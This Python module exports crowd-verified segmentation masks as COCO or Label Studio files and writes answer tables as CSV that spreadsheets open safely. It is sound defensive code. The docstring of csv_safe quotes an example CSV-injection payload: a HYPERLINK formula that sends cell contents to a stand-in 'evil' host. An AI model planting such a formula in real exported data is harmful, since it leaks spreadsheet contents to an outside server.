"""Masks out, as COCO instances with their final label (or as a Label Studio import, see
:mod:`crowdprop.campaign.labelstudio`); answer tables out as CSV safe to open in a spreadsheet."""
from __future__ import annotations

from pathlib import Path

import numpy as np
import pandas as pd

from ..errors import StateError
from ..masks import write_instances
from .loop import load_state
from .store import RunDir

LABELS = {1: "accepted", 0: "rejected", -1: "open"}
"""Final label of a mask row (:func:`final_status`) by name."""
STATUSES = ("accepted", "rejected", "open", "all")
"""What ``crowdprop export --status`` selects."""
SOURCE_NONE, SOURCE_CLUSTER, SOURCE_VERIFIER, SOURCE_DIRECT = 0, 1, 2, 3
SOURCES = {SOURCE_NONE: "none", SOURCE_CLUSTER: "cluster", SOURCE_VERIFIER: "verifier", SOURCE_DIRECT: "direct"}
"""How a final label was decided (the codes of :func:`crowdprop.policy.controller.mask_labels`):
``none`` (open), ``cluster`` (the verdict of an accepted or rejected cluster holding the mask),
``verifier`` (the target policy's verifier), ``direct`` (the mask's own aggregated answers)."""


def final_status(run: RunDir) -> np.ndarray:
    """(n,) int8: 1 accepted, 0 rejected, -1 open, per mask row."""
    return final_labels(run)[0]


def final_labels(run: RunDir) -> tuple[np.ndarray, np.ndarray]:
    """``(final, source)`` per mask row: :func:`final_status` and how it was decided (codes of
    :data:`SOURCES`), from the committed rounds, as the round loop and the report decide them
    (:func:`crowdprop.policy.controller.mask_labels`, verifier verdicts included)."""
    state = load_state(run)
    assert state.final is not None and state.source is not None
    return state.final, state.source


def select_status(final: np.ndarray, status: str) -> np.ndarray:
    """Boolean mask of the rows ``--status`` selects."""
    if status == "all":
        return np.ones(len(final), dtype=bool)
    code = {name: c for c, name in LABELS.items()}[status]
    return np.asarray(final) == code


def default_export_path(run: RunDir, fmt: str = "coco", status: str = "accepted") -> Path:
    """Where ``crowdprop export RUN_DIR`` writes without ``-o``: ``RUN_DIR/export/``
    ``annotations.json`` (accepted masks as COCO), ``annotations_<status>.json``, or
    ``labelstudio.json``."""
    if fmt == "labelstudio":
        name = "labelstudio.json"
    else:
        name = "annotations.json" if status == "accepted" else f"annotations_{status}.json"
    return run.path / "export" / name


def export_annotations(run: RunDir, path, status: str = "accepted") -> int:
    """The masks ``status`` selects, as COCO instances whose ``attributes`` hold
    ``crowdprop_label`` (accepted / rejected / open) and ``crowdprop_source`` (:data:`SOURCES`).
    Returns the number of annotations written."""
    final, source = final_labels(run)
    keep = select_status(final, status)
    masks = run.masks[keep]
    images, cats = run.table("images"), run.table("categories")
    if images is None or cats is None:
        raise StateError(f"{run.path}: incomplete run directory, images.parquet or categories.parquet is missing")
    used = set(masks["image_id"].tolist())
    images = images[images["id"].isin(used)]
    what = "masks accepted" if status == "accepted" else f"masks ({status}) with the label decided"
    info = {"description": f"crowdprop export of campaign {run.campaign.get('campaign_id')}: "
                           f"{what} by crowd verification and label propagation"}
    attributes = [{"crowdprop_label": LABELS[int(f)], "crowdprop_source": SOURCES[int(s)]}
                  for f, s in zip(final[keep], source[keep])]
    return write_instances(path, masks, images, cats, info=info, attributes=attributes)


def export_accepted(run: RunDir, path) -> int:
    """The accepted masks as COCO instances (:func:`export_annotations`)."""
    return export_annotations(run, path, "accepted")


FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
"""A text cell starting with one of these is read as a formula by spreadsheet programs
(OWASP, "CSV Injection")."""


def csv_text(df: pd.DataFrame) -> str:
    """``df`` as CSV text for people and spreadsheets: :func:`csv_safe` cells, text quoted (so a
    carriage return inside a worker id stays inside its field), numbers bare."""
    import csv

    return csv_safe(df).to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC)


def csv_safe(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` with every text cell that a spreadsheet would read as a formula prefixed with a
    single quote (OWASP's advice against CSV injection): a worker id such as
    ``=HYPERLINK("http://evil/?"&A1,"x")`` arrives as ``'=HYPERLINK(...)``, shown as text.
    Numeric columns (mask ids, labels) are left alone, negative numbers included."""
    out = df.copy()
    for col in out.columns:
        if out[col].dtype.kind not in "OSU" and not pd.api.types.is_string_dtype(out[col]):
            continue
        vals = out[col].astype(object)
        risky = vals.map(lambda v: isinstance(v, str) and v.startswith(FORMULA_PREFIXES)).to_numpy(bool)
        if risky.any():
            out[col] = vals.where(~risky, "'" + vals[risky].astype(str))
    return out

